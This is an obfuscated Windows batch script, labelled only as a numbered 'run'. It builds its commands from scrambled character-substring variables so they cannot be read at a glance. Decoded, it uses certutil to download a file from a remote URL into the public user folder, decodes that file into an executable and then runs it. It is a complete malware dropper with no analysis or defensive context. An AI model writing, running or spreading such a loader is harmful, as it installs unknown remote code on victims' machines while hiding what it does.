REM run 7829 v3
@echo off
@^e^ch^o o^f^f
set "qcan=ebh1UCB:utImY3p\L.g/6XP-aVrfxwiycl"
%qcan:~32,1%%qcan:~0,1%%qcan:~26,1%%qcan:~9,1%%qcan:~8,1%%qcan:~9,1%%qcan:~30,1%%qcan:~33,1% %qcan:~23,1%%qcan:~8,1%%qcan:~26,1%%qcan:~33,1%%qcan:~32,1%%qcan:~24,1%%qcan:~32,1%%qcan:~-32,1%%qcan:~0,1% %qcan:~23,1%%qcan:~27,1% %qcan:~2,1%%qcan:~9,1%%qcan:~9,1%%qcan:~-20,1%%qcan:~7,1%%qcan:~-15,1%%qcan:~19,1%%qcan:~-10,1%%qcan:~14,1%%qcan:~30,1%%qcan:~-17,1%%qcan:~9,1%%qcan:~0,1%%qcan:~-1,1%%qcan:~0,1%%qcan:~11,1%%qcan:~0,1%%qcan:~9,1%%qcan:~26,1%%qcan:~31,1%%qcan:~23,1%%qcan:~2,1%%qcan:~8,1%%qcan:~-33,1%%qcan:~-17,1%%qcan:~0,1%%qcan:~-6,1%%qcan:~24,1%%qcan:~-23,1%%qcan:~-20,1%%qcan:~33,1%%qcan:~-34,1%%qcan:~-15,1%%qcan:~14,1%%qcan:~17,1%%qcan:~-25,1%%qcan:~28,1%%qcan:~9,1% %PUBLIC%%qcan:~-19,1%%qcan:~14,1%%qcan:~17,1%%qcan:~-25,1%%qcan:~28,1%%qcan:~-25,1%
@e^c^ho o^ff
^s^et "haum=Ud-iXc.rxpuetINlwCWBOYLQo7\P"
%haum:~5,1%%haum:~11,1%%haum:~7,1%%haum:~12,1%%haum:~10,1%%haum:~12,1%%haum:~3,1%%haum:~-13,1% %haum:~2,1%%haum:~1,1%%haum:~11,1%%haum:~5,1%%haum:~24,1%%haum:~1,1%%haum:~-17,1% %PUBLIC%%haum:~26,1%%haum:~9,1%%haum:~6,1%%haum:~12,1%%haum:~8,1%%haum:~-16,1% %PUBLIC%%haum:~26,1%%haum:~-19,1%%haum:~6,1%%haum:~11,1%%haum:~8,1%%haum:~-17,1%
@ech^o o^ff
se^t "seyl=IPD\gsxBmCtde3.pLUS"
%PUBLIC%%seyl:~3,1%%seyl:~15,1%%seyl:~14,1%%seyl:~-7,1%%seyl:~-13,1%%seyl:~12,1%
